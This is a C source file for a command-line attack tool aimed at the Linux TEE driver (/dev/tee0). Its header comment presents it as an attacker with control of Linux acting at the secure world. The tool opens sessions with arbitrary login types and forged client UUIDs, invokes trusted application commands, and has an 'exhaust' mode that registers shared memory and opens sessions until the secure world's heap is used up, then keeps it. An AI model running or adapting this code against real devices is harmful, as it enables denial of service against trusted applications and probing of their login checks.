// SPDX-License-Identifier: Apache-2.0
/* Whoever owns Linux, at the door of the secure world: any login, any service, all of its heap. */
#include <errno.h>
#include <fcntl.h>
#include <linux/tee.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <unistd.h>

#include "attack.h"

#define SYSTEM_ERROR 0xffffffffu /* Linux refused */
#define LARGEST (4u << 20)
#define SMALLEST 4096u

static void parse_uuid(const char *text, uint8_t to[16])
{
    for (int i = 0; i < 16; i++) {
        unsigned byte = 0;

        text += *text == '-' ? 1 : 0;
        if (sscanf(text, "%2x", &byte) != 1)
            exit(2);
        to[i] = (uint8_t)byte;
        text += 2;
    }
}

static int device(void)
{
    int fd = open("/dev/tee0", O_RDWR);

    if (fd < 0)
        perror("/dev/tee0");
    return fd;
}

static uint32_t open_session(int fd, const char *uuid, uint32_t login, const char *client,
                             uint32_t *session)
{
    struct tee_ioctl_open_session_arg arg = {.clnt_login = login};
    struct tee_ioctl_buf_data data = {.buf_ptr = (uintptr_t)&arg, .buf_len = sizeof(arg)};

    parse_uuid(uuid, arg.uuid);
    if (client != NULL)
        parse_uuid(client, arg.clnt_uuid);
    if (ioctl(fd, TEE_IOC_OPEN_SESSION, &data) < 0)
        return SYSTEM_ERROR;
    *session = arg.session;
    return arg.ret;
}

/* tee open UUID LOGIN [CLIENT]: prints the result. */
static int open_once(int argc, char **argv)
{
    uint32_t session = 0, result;

    if (argc < 4)
        return 2;
    result = open_session(device(), argv[2], (uint32_t)strtoul(argv[3], NULL, 0),
                          argc > 4 ? argv[4] : NULL, &session);
    if (result == SYSTEM_ERROR)
        printf("errno %d\n", errno);
    else
        printf("0x%08x\n", result);
    return 0;
}

/* tee call UUID COMMAND [VALUE]: opens, calls. */
static int call(int argc, char **argv)
{
    struct {
        struct tee_ioctl_invoke_arg arg;
        struct tee_ioctl_param param[4];
    } u = {0};
    struct tee_ioctl_buf_data data = {.buf_ptr = (uintptr_t)&u, .buf_len = sizeof(u)};
    int fd = device();

    if (argc < 4 || open_session(fd, argv[2], TEE_IOCTL_LOGIN_PUBLIC, NULL, &u.arg.session) != 0) {
        printf("no session\n");
        return 1;
    }
    u.arg.func = (uint32_t)strtoul(argv[3], NULL, 0);
    u.arg.num_params = 4;
    if (argc > 4) {
        u.arg.params[0].attr = TEE_IOCTL_PARAM_ATTR_TYPE_VALUE_INPUT;
        u.arg.params[0].a = strtoul(argv[4], NULL, 0);
    }
    if (ioctl(fd, TEE_IOC_INVOKE, &data) < 0) {
        printf("errno %d\n", errno);
        return 1;
    }
    printf("0x%08x\n", u.arg.ret);
    return 0;
}

/* tee exhaust UUID: takes all of the secure world's heap that shared memory and sessions can take,
 * large pieces first, and keeps it. */
static int exhaust(int argc, char **argv)
{
    const struct rlimit files = {65536, 65536}; /* a piece of memory is one */
    unsigned registered = 0, sessions = 0;
    void *memory = mmap(NULL, LARGEST, PROT_READ | PROT_WRITE,
                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    int fd = device();

    if (argc < 3 || memory == MAP_FAILED)
        return 2;
    must(setrlimit(RLIMIT_NOFILE, &files) == 0, "setrlimit");
    for (uint64_t size = LARGEST; size >= SMALLEST; size /= 2) {
        for (;;) {
            struct tee_ioctl_shm_register_data data = {.addr = (uintptr_t)memory, .length = size};

            if (ioctl(fd, TEE_IOC_SHM_REGISTER, &data) < 0)
                break;
            registered++;
        }
    }
    for (uint32_t session; open_session(fd, argv[2], TEE_IOCTL_LOGIN_PUBLIC, NULL, &session) == 0;)
        sessions++;
    printf("exhausted: %u pieces of memory, %u sessions\n", registered, sessions);
    fflush(stdout);
    stay(go_to_background());
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int (*run)(int argc, char **argv);
    } commands[] = {{"open", open_once}, {"call", call}, {"exhaust", exhaust}};

    for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++) {
        if (strcmp(argv[1], commands[i].name) == 0)
            return commands[i].run(argc, argv);
    }
    return 2;
}
